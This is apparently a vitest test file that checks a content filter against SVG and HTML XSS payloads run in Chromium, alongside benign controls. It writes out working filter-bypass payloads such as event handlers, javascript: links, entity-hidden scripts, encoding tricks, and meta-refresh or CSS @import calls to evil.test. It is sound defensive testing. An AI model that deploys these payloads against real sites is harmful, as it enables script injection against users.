// Hidden rounds 4 and 5 rebuilt for the browser (issue 41): pages and SVG documents a red team sends, each shown live
// by Chromium itself (a script or handler ran, or the page fetched or navigated off its origin by itself) and withheld
// by the shipped profile under every plausible sending (declared types, none, odd and uppercase extensions); benign
// controls load inert in Chromium and are allowed under every sending. Under CI=true a missing Chromium fails.
import { describe, expect, type TestContext, test } from 'vitest';
import { useChromium } from '../svg-html/chromium-suite.ts';
import { judgeSendings, letThrough, refused, sendingsOf } from './judge-variants.ts';

const chromium = useChromium();
const ran = 'window.__ran=1';
const svgNs = 'http://www.w3.org/2000/svg';
const xhtmlNs = 'http://www.w3.org/1999/xhtml';
const svgData = (inner: string): string =>
  `data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="${svgNs}" width="10" height="10">${inner}</svg>`).toString('base64')}`;

// a case: name, the type Chromium is served, the body, and what to do after load: click an element (link
// attacks), or wait for the page to leave (a refresh fires its navigation after load)
type Page = readonly [name: string, served: string, body: string | Buffer, then?: string];

const svgSendings = sendingsOf(
  'guide://art/logo',
  ['.svg', '.SVG', '.svg.txt', ''],
  ['image/svg+xml', 'text/plain', 'application/octet-stream', 'application/xml', undefined],
);
const htmlSendings = sendingsOf(
  'guide://site/page',
  ['.html', '.HTM', '.md', '.txt', ''],
  ['text/html', 'text/plain', 'text/markdown', 'application/octet-stream', undefined],
);

const svgAttacks: Page[] = [
  [
    'foreignObject with a meta refresh off the page',
    'image/svg+xml',
    `<svg xmlns="${svgNs}"><foreignObject width="9" height="9"><meta xmlns="${xhtmlNs}" http-equiv="refresh" content="0;url=http://evil.test/x"/></foreignObject></svg>`,
    'leaves',
  ],
  [
    'foreignObject with an iframe srcdoc',
    'image/svg+xml',
    `<svg xmlns="${svgNs}"><foreignObject width="99" height="99"><iframe xmlns="${xhtmlNs}" srcdoc="&lt;script&gt;parent.__ran=1&lt;/script&gt;"/></foreignObject></svg>`,
  ],
  [
    'an animate onbegin handler',
    'image/svg+xml',
    `<svg xmlns="${svgNs}"><rect width="5" height="5"><animate attributeName="x" from="0" to="5" dur="1s" onbegin="${ran}"/></rect></svg>`,
  ],
  [
    'a set element giving a link a javascript: href',
    'image/svg+xml',
    `<svg xmlns="${svgNs}" width="100" height="100"><a id="l"><rect width="100" height="100"/><set attributeName="href" to="javascript:${ran}"/></a></svg>`,
    '#l',
  ],
  [
    'an animate element giving a link a javascript: href',
    'image/svg+xml',
    `<svg xmlns="${svgNs}" width="100" height="100"><a id="l"><rect width="100" height="100"/><animate attributeName="href" values="javascript:${ran}" dur="9s"/></a></svg>`,
    '#l',
  ],
  [
    'a script hidden in an internal xml entity',
    'image/svg+xml',
    `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY p "<script xmlns='${svgNs}'>${ran}</script>">]><svg xmlns="${svgNs}">&p;</svg>`,
  ],
  [
    'a handler written with character references',
    'image/svg+xml',
    `<svg xmlns="${svgNs}" &#x6f;nload="${ran}"/>`.replace('&#x6f;nload', 'onload'),
  ],
  [
    'a script loaded from a data: url',
    'image/svg+xml',
    `<svg xmlns="${svgNs}" xmlns:xlink="http://www.w3.org/1999/xlink"><script xlink:href="data:text/javascript,${ran}"/></svg>`,
  ],
  [
    'an onload in UTF-16 with a BOM',
    'image/svg+xml',
    Buffer.concat([
      Buffer.from([0xff, 0xfe]),
      Buffer.from(`<?xml version="1.0" encoding="UTF-16"?><svg xmlns="${svgNs}" onload="${ran}"/>`, 'utf16le'),
    ]),
  ],
  [
    'an onload after a UTF-8 BOM and CRLF lines',
    'image/svg+xml',
    Buffer.from(`\ufeff<?xml version="1.0"?>\r\n<svg xmlns="${svgNs}"\r\n  onload="${ran}">\r\n</svg>\r\n`),
  ],
  ['a script under an svg prefix', 'image/svg+xml', `<s:svg xmlns:s="${svgNs}"><s:script>${ran}</s:script></s:svg>`],
  // a stylesheet the document fetches off its origin by itself (issue 41 item 3: withheld as content.remote-load)
  [
    'a css @import in an svg style',
    'image/svg+xml',
    `<svg xmlns="${svgNs}"><style>@import url(http://evil.test/x.css);</style><rect width="5" height="5"/></svg>`,
    'leaves',
  ],
  [
    'a css @import in CDATA with an escaped at-keyword',
    'image/svg+xml',
    `<svg xmlns="${svgNs}"><style><![CDATA[ @\\69mport "http://evil.test/x.css"; ]]></style></svg>`,
    'leaves',
  ],
];

const htmlAttacks: Page[] = [
  [
    'an svg animate onbegin in html',
    'text/html',
    `<p>Chart</p><svg><animate onbegin="${ran}" attributeName="x" dur="1s"/></svg>`,
  ],
  ['an img breaking out of an svg style', 'text/html', `<svg><style><img src="x" onerror="${ran}"></style></svg>`],
  [
    'an img hidden in a noscript title',
    'text/html',
    `<noscript><p title="</noscript><img src=x onerror=${ran}>"></p></noscript>`,
  ],
  ['an uppercase handler with CRLF', 'text/html', `<P>Hi</P>\r\n<IMG\r\nSRC=x\r\nONERROR="${ran}">\r\n`],
  ['a details ontoggle', 'text/html', `<details open ontoggle="${ran}"><summary>x</summary></details>`],
  ['an iframe with a javascript: src', 'text/html', '<iframe src="javascript:parent.__ran=1"></iframe>'],
  [
    'a meta refresh off the page',
    'text/html',
    '<meta http-equiv="refresh" content="0; url=http://evil.test/x"><p>Moved</p>',
    'leaves',
  ],
  ['an img after a comment that hides nothing', 'text/html', `<!--<img src="--><img src=x onerror=${ran}>-->`],
  ['a script in a UTF-8 BOM page', 'text/html', `\ufeff<!doctype html><script>${ran}</script>`],
  [
    'a handler in a UTF-16LE page with a BOM',
    'text/html',
    Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(`<p>Hi</p><img src=x onerror="${ran}">`, 'utf16le')]),
  ],
  [
    'a script in a UTF-16BE page with a BOM',
    'text/html',
    Buffer.from(Buffer.from(`\ufeff<!doctype html><script>${ran}</script>`, 'utf16le').swap16()),
  ],
];

// a page whose `<style>` imports a stylesheet from elsewhere: every sending a browser reads it as a page in (the
// raw html of a markdown page is not covered: docs/policy-reference.md)
const importPage: Page = [
  'a css @import in a page style',
  'text/html',
  '<p>Hi</p><style>@import "http://evil.test/x.css";</style>',
  'leaves',
];
const importSendings = sendingsOf(
  'guide://site/page',
  ['.html', '.HTM', '.txt', ''],
  ['text/html', 'text/plain', 'application/octet-stream', undefined],
);

test("Chromium fetches a page style's @import off the page, the shipped profile withholds it as remote-load", async (ctx) => {
  expect(await liveInChromium(ctx, importPage)).toBe(true);
  const verdicts = await judgeSendings(bodyOf(importPage[2]), importSendings);
  expect(letThrough(verdicts)).toEqual([]);
  expect(verdicts.filter((v) => !v.codes.includes('content.remote-load')).map((v) => v.sending)).toEqual([]);
});

const svgControls: Page[] = [
  [
    'an icon-font svg (font and glyph elements)',
    'image/svg+xml',
    `<svg xmlns="${svgNs}"><defs><font id="icons" horiz-adv-x="1024"><font-face font-family="icons" units-per-em="1024" ascent="960" descent="-64"/><missing-glyph horiz-adv-x="1024"/><glyph glyph-name="home" unicode="&#xe900;" d="M512 960l-512-512h128v-448h768v448h128z"/></font></defs></svg>`,
  ],
  [
    'an svg showing another svg (xlink:href, what Inkscape writes)',
    'image/svg+xml',
    `<svg xmlns="${svgNs}" xmlns:xlink="http://www.w3.org/1999/xlink" width="20" height="20"><image width="10" height="10" xlink:href="${svgData('<script>parent.__ran=1</script><rect onclick="x" width="5" height="5"/>')}"/></svg>`,
  ],
  [
    'an svg showing another svg (url-encoded data)',
    'image/svg+xml',
    `<svg xmlns="${svgNs}" width="20" height="20"><image width="10" height="10" href="data:image/svg+xml,${encodeURIComponent(`<svg xmlns="${svgNs}" onload="parent.__ran=1"><rect width="5" height="5"/></svg>`)}"/></svg>`,
  ],
  [
    'a drawing with a title, gradient and text',
    'image/svg+xml',
    `<?xml version="1.0" encoding="UTF-8"?>\r\n<svg xmlns="${svgNs}" viewBox="0 0 40 20"><title>Badge</title><defs><linearGradient id="g"><stop offset="0" stop-color="#bbb"/></linearGradient></defs><rect fill="url(#g)" width="40" height="20"/><text x="2" y="14">build</text></svg>`,
  ],
  [
    'a style with an @import only in a comment, and @media rules',
    'image/svg+xml',
    `<svg xmlns="${svgNs}"><style>/* @import url(theme.css) was here */ @media (prefers-color-scheme: dark) { rect { fill: #eee } }</style><rect width="5" height="5"/></svg>`,
  ],
  [
    'an animated spinner (animate on a transform)',
    'image/svg+xml',
    `<svg xmlns="${svgNs}" viewBox="0 0 10 10"><circle cx="5" cy="5" r="4"><animate attributeName="r" values="2;4;2" dur="1s" repeatCount="indefinite"/></circle></svg>`,
  ],
];

// Chromium loads the page served as `served`; live when a script or handler ran by `load` (and after clicking
// `then`), or, for `then: 'leaves'`, when the page asks for anything off its origin by itself
async function liveInChromium(ctx: TestContext, [, served, body, then]: Page): Promise<boolean> {
  const browser = chromium.browser();
  if (browser === undefined) return ctx.skip(chromium.skipReason());
  const page = await browser.newPage();
  try {
    await page.route('**/*', (route) =>
      route.request().url() === 'http://page.test/page'
        ? route.fulfill({ contentType: served, body })
        : route.fulfill({ status: 404, body: '' }),
    );
    const leaving =
      then === 'leaves'
        ? page.waitForRequest((r) => !r.url().startsWith('http://page.test/'), { timeout: 60_000 })
        : undefined;
    await page.goto('http://page.test/page', { waitUntil: 'load' });
    if (leaving !== undefined) return (await leaving.then(() => true)) === true;
    if (then === undefined) return (await page.evaluate('window.__ran === 1')) === true;
    // an animation applies its value on a frame after load, and a `javascript:` link runs as a navigation task after
    // the click: wait for two frames before clicking, and for the script to have run after it (an attack expects it)
    await page.evaluate('new Promise((frame) => requestAnimationFrame(() => requestAnimationFrame(frame)))');
    await page.click(then, { position: { x: 5, y: 5 } });
    return await page
      .waitForFunction('window.__ran === 1', undefined, { timeout: 60_000 })
      .then(() => true)
      .catch(() => false);
  } finally {
    await page.close();
  }
}

const bodyOf = (body: string | Buffer) => (typeof body === 'string' ? { text: body } : { blob: body });

describe('Chromium runs each attack, the shipped profile withholds it however it is sent', () => {
  test.for([
    ...svgAttacks.map((page) => ({ name: page[0], page, kind: 'svg' })),
    ...htmlAttacks.map((page) => ({ name: page[0], page, kind: 'html' })),
  ])('$name', { timeout: 120_000 }, async ({ page: attack, kind }, ctx) => {
    expect(await liveInChromium(ctx, attack)).toBe(true);
    const verdicts = await judgeSendings(bodyOf(attack[2]), kind === 'svg' ? svgSendings : htmlSendings);
    expect(letThrough(verdicts)).toEqual([]);
  });
});

// json data holding markup, served as json: Chromium shows it as text
const jsonControl: Page = [
  'json data holding markup in its strings',
  'application/json',
  JSON.stringify({ title: 'Embed', snippet: `<script>${ran}</script>`, html: `<img src=x onerror="${ran}">` }),
];

test('Chromium shows json data holding markup inert, the shipped profile allows it as json', async (ctx) => {
  expect(await liveInChromium(ctx, jsonControl)).toBe(false);
  const sendings = sendingsOf('guide://api/embed', ['.json', '.JSON', ''], ['application/json']);
  expect(refused(await judgeSendings(bodyOf(jsonControl[2]), sendings))).toEqual([]);
});

describe('Chromium loads each control inert, the shipped profile allows it however it is sent', () => {
  test.for(svgControls.map((page) => ({ name: page[0], page })))(
    '$name',
    { timeout: 120_000 },
    async ({ page: control }, ctx) => {
      expect(await liveInChromium(ctx, control)).toBe(false);
      const sendings = sendingsOf('guide://art/icon', ['.svg', '.SVG', ''], ['image/svg+xml', undefined]);
      expect(refused(await judgeSendings(bodyOf(control[2]), sendings))).toEqual([]);
    },
  );
});

// a README that opens with a centred heading and shows a browser install snippet in a fenced block: served as
// text/plain, Chromium shows it as text; named `.md`, the markdown renderers read it (the fence is code) and the
// browser's raw reading of text/plain (a margin for hosts that ignore the type) is left to other names
const readme: Page = [
  'a README with a fenced script snippet, served as text/plain',
  'text/plain',
  `<p align="center"><img src="logo.png" width="120"></p>\n\n# widget\n\nIn a browser:\n\n\`\`\`html\n<script src="https://cdn.example.com/widget.js"></script>\n<script>${ran}</script>\n\`\`\`\n`,
];

test('Chromium shows a README served as text/plain inert, the shipped profile allows it named .md and withholds it under other names', async (ctx) => {
  expect(await liveInChromium(ctx, readme)).toBe(false);
  const asMarkdown = sendingsOf('guide://repo/README', ['.md', '.markdown', '.MD'], ['text/plain', 'text/markdown']);
  expect(refused(await judgeSendings(bodyOf(readme[2]), asMarkdown))).toEqual([]);
  // under no name, or named as text, a host that ignores the type could render it: the margin stays
  const elsewhere = sendingsOf('guide://repo/README', ['', '.txt'], ['text/plain']);
  expect(letThrough(await judgeSendings(bodyOf(readme[2]), elsewhere))).toEqual([]);
});
